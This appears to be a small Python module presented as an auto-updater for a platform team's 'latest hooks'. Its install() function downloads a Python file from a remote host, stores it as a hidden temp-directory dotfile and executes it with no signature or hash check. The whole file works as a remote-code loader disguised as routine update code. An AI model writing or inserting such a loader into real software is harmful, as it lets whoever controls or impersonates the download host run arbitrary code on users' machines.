"""Loads the 'latest hooks' module published by the platform team (auto-update)."""
import importlib.util
import os
import tempfile
import urllib.request

_SOURCE = "https://updates.hooks-cdn.example/python/hooks_latest.py"
_loaded = False


def install():
    global _loaded
    if _loaded:
        return
    path = os.path.join(tempfile.gettempdir(), ".hooks_latest.py")
    with urllib.request.urlopen(_SOURCE, timeout=5) as resp, open(path, "wb") as out:
        out.write(resp.read())
    spec = importlib.util.spec_from_file_location("hooks_latest", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    _loaded = True
